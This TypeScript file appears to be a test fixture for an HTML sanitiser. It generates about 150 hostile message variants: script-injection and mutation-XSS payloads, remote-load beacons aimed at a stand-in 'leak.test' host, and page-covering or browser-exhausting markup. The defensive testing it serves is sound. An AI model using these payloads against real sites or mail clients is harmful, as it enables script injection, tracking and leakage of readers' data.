/** Hostile message that we wrote. */
export interface HostileVariant {
  id: string;
  /** Attack that it tries. */
  what: string;
  html: string;
  /** Text that a reader must see anyway. */
  marker: string;
}

/** Address that a message tries to load, and the script that it tries to run. */
interface Bait {
  url: string;
  /** The same without its scheme. */
  bare: string;
  run: string;
}

type Make = (bait: Bait) => string;

/** Ways to have something loaded from elsewhere. */
const loads: Readonly<Record<string, Make>> = {
  img: ({ url }) => `<img src="${url}">`,
  'img without quotes': ({ url }) => `<img/src=${url}>`,
  'img, scheme-relative': ({ bare }) => `<img src="//${bare}">`,
  'img, back slashes': ({ bare }) => `<img src="http:\\\\${bare}"><img src="/\\${bare}"><img src="\\\\${bare}">`,
  'img, broken scheme': ({ bare }) =>
    `<img src="ht\ntp://${bare}"><img src="&#x09;http://${bare}"><img src="http:/${bare}"><img src="http:${bare}">`,
  'img srcset': ({ url }) => `<img srcset="${url} 1x, ${url}2 2x"><img src="data:," srcset="${url} 100w" sizes="1px">`,
  'img lowsrc, dynsrc, longdesc': ({ url }) => `<img lowsrc="${url}" dynsrc="${url}" longdesc="${url}" data-src="${url}" loading="lazy">`,
  picture: ({ url }) => `<picture><source srcset="${url}"><img alt=""></picture>`,
  'input image': ({ url }) => `<input type="image" src="${url}"><input type=image/src=${url}>`,
  'video poster': ({ url }) => `<video poster="${url}" autoplay><source src="${url}"></video>`,
  'audio and track': ({ url }) => `<audio src="${url}" autoplay></audio><video><track src="${url}" default></video>`,
  object: ({ url }) => `<object data="${url}"></object><object><param name="movie" value="${url}"></object>`,
  embed: ({ url }) => `<embed src="${url}"><applet code="x" codebase="${url}"></applet><bgsound src="${url}">`,
  iframe: ({ url }) =>
    `<iframe src="${url}"></iframe><frame src="${url}"><iframe srcdoc="<img src='${url}'>"></iframe><portal src="${url}">`,
  'link stylesheet': ({ url }) => `<link rel="stylesheet" href="${url}"><link rel=icon href="${url}"><link rel=import href="${url}">`,
  'link hints': ({ url }) =>
    ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'prerender', 'modulepreload', 'manifest', 'pingback']
      .map((rel) => `<link rel="${rel}" as="image" href="${url}">`)
      .join(''),
  'meta refresh': ({ url }) => `<meta http-equiv="refresh" content="0;url=${url}"><meta http-equiv="Refresh" content="0; URL='${url}'">`,
  'meta policy': ({ url }) =>
    `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${url}"><meta name=referrer content=unsafe-url>`,
  'meta prefetch on': ({ url }) => `<meta http-equiv="x-dns-prefetch-control" content="on"><a href="${url}">x</a>`,
  base: ({ url }) => `<base href="${url}/"><img src="x.png"><a href="y">y</a>`,
  'body background': ({ url }) =>
    `<body background="${url}"><table background="${url}"><tr background="${url}"><td background="${url}">x</td></tr></table>`,
  'body link colours': ({ url }) => `<body style="background:url(${url})" bgcolor="url(${url})">x`,
  'style url': ({ url }) => `<div style="background:url(${url})">x</div><div style='background-image:url("${url}")'>x</div>`,
  'style url, escaped': ({ url }) =>
    `<div style="background:u\\72l(${url})">x</div><div style="background:\\75\\72\\6c(${url})">x</div><div style="background:u\\000072 l('${url}')">x</div>`,
  'style url, comments': ({ url }) =>
    `<div style="background:/**/url(/**/${url}/**/)">x</div><div style="back/**/ground:url(${url});background:url/**/(${url})">x</div>`,
  'style url, entities': ({ url }) =>
    `<div style="background&colon;&#117;rl&lpar;${url}&rpar;">x</div><div style="background:&#x75;&#x72;&#x6c;(${url})">x</div>`,
  'style url, null and new lines': ({ url }) =>
    `<div style="background:url(\n${url}\n)">x</div><div style="background:ur\\\nl(${url});background:u\u0000rl(${url})">x</div>`,
  'style url, unclosed': ({ url }) => `<div style="background:url(${url}">x</div><div style="background:url('${url}">x</div>`,
  'image-set': ({ url }) =>
    `<div style="background:image-set('${url}' 1x)">x</div><div style="background:-webkit-image-set(url(${url}) 1x)">x</div><div style="background:im\\61ge-set(&quot;${url}&quot; 1x)">x</div>`,
  'cross-fade': ({ url }) =>
    `<div style="background:cross-fade(url(${url}), url(${url}) 50%)">x</div><div style="background:-webkit-cross-fade(url(${url}),none,50%)">x</div>`,
  'image() and src()': ({ url }) =>
    `<div style="background:image('${url}')">x</div><div style="background:src('${url}')">x</div><div style="background:element(#a),paint(b)">x</div>`,
  variables: ({ url }) =>
    `<style>:root{--u:url(${url});--s:"${url}"}.v{background:var(--u)}.w{background:image-set(var(--s) 1x)}</style><div class=v>x</div><div class=w>x</div>`,
  'property rule': ({ url }) =>
    `<style>@property --u{syntax:"<image>";inherits:false;initial-value:url(${url})}.p{background:var(--u)}</style><div class=p>x</div>`,
  import: ({ url }) =>
    `<style>@import "${url}";@import url(${url});@\\69mport '${url}' screen;@import url("${url}") layer(a) supports(display:grid);</style>`,
  'import behind marks': ({ url }) => `<style><!--\n@import "${url}";\n--></style><style>/*</style>*/@import "${url}";</style>`,
  'font-face': ({ url }) => `<style>@font-face{font-family:f;src:url(${url})}*{font-family:f}</style>x`,
  'nested rules': ({ url }) =>
    `<style>@media all{@supports (display:block){.n{background:url(${url})}}}.n{&{background:url(${url})}}@layer a{.n{background:url(${url})}}@container (width>0){.n{background:url(${url})}}@scope(.n){:scope{background:url(${url})}}@starting-style{.n{background:url(${url})}}</style><div class=n>x</div>`,
  keyframes: ({ url }) =>
    `<style>@keyframes k{from{background:url(${url})}to{background:url(${url}2)}}.k{animation:k 1s infinite}</style><div class=k>x</div>`,
  'generated content': ({ url }) =>
    `<style>.g::before{content:url(${url})}.g::after{content:image-set("${url}" 1x)}li{list-style:url(${url})}</style><ul><li class=g>x</ul>`,
  'cursor, mask, filter, shape': ({ url }) =>
    `<div style="cursor:url(${url}),auto;mask:url(${url});-webkit-mask-image:url(${url});filter:url(${url}#f);clip-path:url(${url}#c);shape-outside:url(${url});border-image:url(${url}) 1;offset-path:url(${url}#p);-moz-binding:url(${url});behavior:url(${url})">x</div>`,
  'attribute selectors': ({ url }) =>
    `<style>a[href^="h"]{background:url(${url})}input[value^=a]{background:url(${url})}</style><a href="https://x.example/">x</a>`,
  'states of links': ({ url }) =>
    `<style>a:visited{background:url(${url}v)}a:link{background:url(${url}l)}:target{background:url(${url}t)}a:hover{background:url(${url}h)}</style><a id=t href="#t">x</a>`,
  'style in svg': ({ url }) =>
    `<svg><style>*{background:url(${url})}</style><image href="${url}"/><image xlink:href="${url}"/><use href="${url}#a"/><feImage href="${url}"/></svg>x`,
  'svg links and patterns': ({ url }) =>
    `<svg><a xlink:href="${url}"><text>x</text></a><rect fill="url(${url}#p)"/><script href="${url}"></script><foreignObject><img src="${url}"></foreignObject></svg>x`,
  mathml: ({ url }) =>
    `<math href="${url}"><mtext><img src="${url}"></mtext><annotation-xml encoding="text/html"><img src="${url}"></annotation-xml></math>x`,
  'conditional comment': ({ url }) => `<!--[if true]><img src="${url}"><![endif]--><!--[if !mso]><!--><img src="${url}"><!--<![endif]-->`,
  vml: ({ url }) =>
    `<v:image src="${url}"/><v:fill type="frame" src="${url}"/><xml src="${url}"></xml><?import namespace="x" implementation="${url}">`,
  noscript: ({ url }) => `<noscript><img src="${url}"></noscript><noscript><style>*{background:url(${url})}</style></noscript>`,
  template: ({ url }) =>
    `<template><img src="${url}"></template><template shadowrootmode="open"><img src="${url}"></template><div><template shadowrootmode=open><style>:host{background:url(${url})}</style></template></div>`,
  'head and profile': ({ url }) =>
    `<html manifest="${url}"><head profile="${url}"><body>x<isindex action="${url}"><q cite="${url}">x</q><ins cite="${url}">y</ins>`,
  'a ping and download': ({ url }) => `<a href="#x" ping="${url}" download="x" attributionsrc="${url}">x</a><img attributionsrc="${url}">`,
  'forms that call': ({ url }) =>
    `<form action="${url}" id=f><button formaction="${url}" autofocus>x</button><input onfocus="1"></form><select onchange="1"></select>`,
  'data pages': ({ url }) =>
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${url}'/></svg>"><object data="data:text/html,<img src='${url}'>"></object>`,
  'mixed case and junk': ({ url }) => `<IMG SRC="${url}" ALT=x><ImG/**/sRc=${url}><img\u000bsrc=${url}><img src\u000c=\u000c${url}>`,
  'old backgrounds': ({ url }) =>
    `<layer src="${url}"></layer><ilayer background="${url}"></ilayer><div background="${url}" style="background-image: url(${url})">x</div>`,
  'own server': () =>
    `<img src="/api/session?__probe__"><img src="http:/api/__probe__"><div style="background:url(/api/__probe__)">x</div><img src="?__probe__"><a href="/api/logout?__probe__">x</a>`,
};

/** Ways to have something run. */
const runs: Readonly<Record<string, Make>> = {
  script: ({ run }) => `<script>${run}</script><SCRIPT>${run}</SCRIPT><script\n>${run}</script><script/x>${run}</script >`,
  'script in script': ({ run }) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  handlers: ({ run }) =>
    [
      'onload',
      'onerror',
      'onmouseover',
      'onfocus',
      'onanimationstart',
      'onpointerenter',
      'ontoggle',
      'onbeforetoggle',
      'onscrollend',
      'oncontentvisibilityautostatechange',
      'onpageshow',
    ]
      .map((name) => `<img src=x ${name}="${run}"><body ${name}="${run}"><div tabindex=0 autofocus ${name}=${JSON.stringify(run)}>x</div>`)
      .join(''),
  'handlers without blanks': ({ run }) =>
    `<img/src=x/onerror=${run.replaceAll(' ', '')}><svg/onload=${run.replaceAll(' ', '')}><details/open/ontoggle=${run.replaceAll(' ', '')}>x`,
  'javascript links': ({ run }) =>
    [
      'javascript:',
      'JaVaScRiPt:',
      '&#106;avascript:',
      'java\tscript:',
      'java\nscript:',
      ' \u0001javascript:',
      'javascript&colon;',
      'vbscript:',
      'data:text/html,<script>',
      'feed:javascript:',
      'view-source:javascript:',
    ]
      .map(
        (scheme) => `<a href="${scheme}${run}">x</a><area href="${scheme}${run}"><form action="${scheme}${run}"><button>y</button></form>`,
      )
      .join(''),
  'javascript pictures': ({ run }) =>
    `<img src="javascript:${run}"><table background="javascript:${run}"><div style="background:url(javascript:${run})">x</div><iframe src="javascript:${run}"></iframe>`,
  'meta javascript': ({ run }) =>
    `<meta http-equiv="refresh" content="0;url=javascript:${run}"><meta http-equiv="refresh" content="0;url=data:text/html,<script>${run}</script>">`,
  'svg script': ({ run }) =>
    `<svg><script>${run}</script></svg><svg onload="${run}"></svg><svg><animate onbegin="${run}" attributeName=x dur=1s></svg><svg><set attributeName=href to="javascript:${run}"></svg>`,
  'svg animation of a link': ({ run }) =>
    `<svg><a><animate attributeName=href values="javascript:${run}"/><text x=20 y=20>x</text></a></svg>`,
  'mutation: svg style': ({ run }) => `<svg></p><style><a id="</style><img src=1 onerror=${JSON.stringify(run)}>">`,
  'mutation: math': ({ run }) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror='${run}'&gt;">`,
  'mutation: form': ({ run }) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  'mutation: noscript': ({ run }) => `<noscript><p title="</noscript><img src=x onerror='${run}'>">x</noscript>`,
  'mutation: template': ({ run }) => `<template><style><template><a title="</template></style><img src=x onerror='${run}'>">x`,
  'mutation: style in title': ({ run }) =>
    `<title><style></title><img src=x onerror="${run}"></style><textarea></textarea><img src=x onerror="${run}">`,
  'mutation: select': ({ run }) => `<select><style></select><img src=x onerror="${run}"></style><select><keygen><script>${run}</script>`,
  'mutation: plaintext': ({ run }) =>
    `<xmp><img title="</xmp><img src=x onerror='${run}'>"></xmp><noembed><img title="</noembed><img src onerror='${run}'>"></noembed>`,
  'mutation: comment': ({ run }) =>
    `<!--><img src=x onerror="${run}"><!-- --!><img src=x onerror="${run}"> --><![CDATA[<img src=x onerror="${run}">]]>`,
  'mutation: annotation': ({ run }) =>
    `<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror='${run}'>"></style></annotation-xml></math>`,
  'mutation: deep svg': ({ run }) => `${'<svg>'.repeat(60)}<style><img title="</style><img src onerror='${run}'>">`,
  'mutation: foreign end tags': ({ run }) => `<svg><desc></p><p></svg><svg><title><style></title><img src onerror="${run}"></style></svg>`,
  'css expressions': ({ run }) =>
    `<div style="width:expression(${run});-moz-binding:url('data:text/xml,x#y');behavior:url(#default#time2)">x</div><style>*{x:expression(${run})}</style>`,
  'style that ends': ({ run }) =>
    `<style>a{content:"</style><script>${run}</script>"}</style><div style='content:"</div><script>${run}</script>"'>x</div>`,
  'frames of data': ({ run }) =>
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe><iframe src="data:text/html,<script>${run}</script>"></iframe><object data="data:image/svg+xml,<svg onload='${run}'/>"></object>`,
  'xml islands': ({ run }) =>
    `<?xml-stylesheet href="javascript:${run}"?><x xmlns:xlink="http://www.w3.org/1999/xlink" xlink:actuate="onLoad" xlink:href="javascript:${run}"/>`,
  'import maps and modules': ({ run }) =>
    `<script type="importmap">{"imports":{"a":"data:text/javascript,${run}"}}</script><script type=module>${run}</script><script type="speculationrules">{"prefetch":[{"urls":["/__probe__"]}]}</script>`,
  clobbering: ({ run }) =>
    `<form id=document name=body><input name=attributes><input name=parentNode></form><a id=ownerDocument name=defaultView href="javascript:${run}">x</a><img name=getElementById><a id=location></a><form name=cookie></form><object id=top></object>`,
  'own marks': () =>
    `<a class="jinshu-fold" data-fold="" data-show="<img src=x onerror=1>" href="#">x</a><div class="jinshu-folded"><p>y</p></div><div data-generation="1">z</div>`,
};

const long = 'A line of a letter that goes on for a while and says nothing much. ';

/** Markup that tries to leave the frame, cover the page or exhaust the browser. */
const shapes: Readonly<Record<string, Make>> = {
  'fixed overlay': () => '<div style="position:fixed;inset:0;z-index:2147483647;background:red">x</div>',
  'fixed overlay, escaped': () =>
    '<div style="pos\\69tion:f\\69xed;top:0;left:0;width:100vw;height:100vh;background:red">x</div><style>.o{position:fixed!important;inset:0}</style><div class=o>y</div>',
  'fixed by a variable': () => '<style>.o{--p:fixed;position:var(--p);inset:0;background:red}</style><div class=o>x</div>',
  'sticky and absolute': () =>
    '<div style="position:sticky;top:0">x</div><div style="position:absolute;top:-5000px;left:-5000px;width:99999px;height:99999px;background:red">y</div>',
  'top layer': () => '<dialog open style="position:fixed;inset:0">x</dialog><div popover=manual>y</div><button popovertarget=z>z</button>',
  'hidden letter': () =>
    '<style>html,body{display:none!important;opacity:0;visibility:hidden;height:0;overflow:hidden;transform:scale(0)}*{clip-path:inset(50%)!important}</style>',
  'height in parts of the frame': () => '<div style="height:200vh">x</div><div style="min-height:100dvh;height:calc(100% + 100vh)">y</div>',
  'huge picture': () => '<img width="99999999" height="99999999" alt=x><img style="width:1e9px;height:1e9px" alt=y>',
  'huge letters': () => '<p style="font-size:99999px">x</p><div style="zoom:1000">y</div><div style="transform:scale(1e6)">z</div>',
  'huge table': () => `<table width=99999999 height=99999999 border=9999 cellpadding=9999><tr>${'<td>x'.repeat(300)}</table>`,
  'wide word': () => `<p>${'x'.repeat(20_000)}</p><pre>${'y'.repeat(20_000)}</pre><p style="white-space:nowrap">${long.repeat(300)}</p>`,
  'deep nesting': () => `${'<div>'.repeat(20_000)}x`,
  'deep tables': () => `${'<table><tr><td>'.repeat(600)}x`,
  'deep quotes': () => `${'<blockquote>'.repeat(3000)}x`,
  'many elements': () => '<i>x</i>'.repeat(40_000),
  'many attributes': () => `<p ${Array.from({ length: 5000 }, (_, index) => `a${index}=b`).join(' ')}>x</p>`,
  'many styles': () =>
    `<style>${Array.from({ length: 3000 }, (_, index) => `.c${index} .d${index}>p:nth-child(${index}){color:red}`).join('')}</style>`,
  'endless animation': () =>
    '<style>@keyframes a{to{width:9999px;height:9999px;margin-left:-9999px}}*{animation:a 10ms infinite alternate}</style><p>x</p>',
  'negative margins': () => '<div style="margin:-5000px;padding:5000px;background:red">x</div><body style="margin:-1000px!important">',
  'right to left': () => '<html dir=rtl><bdo dir=rtl>\u202e\u2066x</bdo><p>\u202e\u202e\u202ey</p>',
  marquee: () => '<marquee behavior=alternate scrollamount=9999>x</marquee><blink>y</blink>',
  'named frames and targets': ({ url }) =>
    `<a target="_top" href="${url}">x</a><a target="_parent" href="${url}">y</a><base target=_top><form target=_top action="${url}"></form>`,
  'focus and keys': () => '<p autofocus tabindex=1 accesskey=s contenteditable>x</p><input autofocus accesskey=r>',
  'selection of the page': () =>
    '<style>:host,:root,::slotted(*),html{position:absolute!important;inset:0!important}::view-transition{position:fixed}::backdrop{background:red}</style>',
};

/** Bytes that a browser reads otherwise than a filter might. */
const wrappings: readonly Make[] = [
  ({ run, url }) => `<div title='"><img src=${url} onerror=${run}>'>x</div>`,
  ({ run, url }) => `<div title="&quot;><img src=${url} onerror=${run}>">x</div><p title='\`'><img src=\`${url}\` onerror=\`${run}\`>`,
  ({ run }) => `\ufeff<scr\u0000ipt>${run}</scr\u0000ipt><\u0000img src=x onerror=${run}>`,
  ({ run }) => `<svg xmlns="x"><x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script></svg>`,
  ({ url }) => `<img src="x" style="background-image:url(&quot;${url}&quot;);;;;:url(${url})"><p style="}*{background:url(${url})">x</p>`,
  ({ url }) => `<style>p{color:red}}*{background:url(${url})}</style><style>{}{}{;;}@x;*{background:url(${url})}</style>`,
  ({ url }) => `<style>a{b:url("${url.slice(0, 8)}\\\n${url.slice(8)}")}p::before{content:"\\";background:url(${url});"}</style>x`,
  ({ url }) =>
    `<style media="all" type="text/css" nonce=x onload=1>p{background:URL( '${url}' )}</style><style>p{background:url(\\68ttp://${url.slice(7)})}</style><p>x`,
];

/** Every variant, with baits that lead to `host`. */
export function hostileVariants(host: string): HostileVariant[] {
  const makes = [
    ...Object.entries(loads),
    ...Object.entries(runs),
    ...Object.entries(shapes),
    ...wrappings.map((make, index) => [`wrapping ${index + 1}`, make] as const),
  ];
  return makes.map(([what, make], index) => {
    const id = `v${String(index + 1).padStart(3, '0')}`;
    const marker = `MARK-${id}`;
    // A name of its own for each: a look-up tells as much as a request.
    const bare = `${id}.leak.test${host}/leak?id=${id}`;
    const html = make({ url: `http://${bare}`, bare, run: `top.__pwned='${id}';console.log('PWNED:${id}')` });
    return { id, what, marker, html: `<p>${marker} begins</p>${html}` };
  });
}
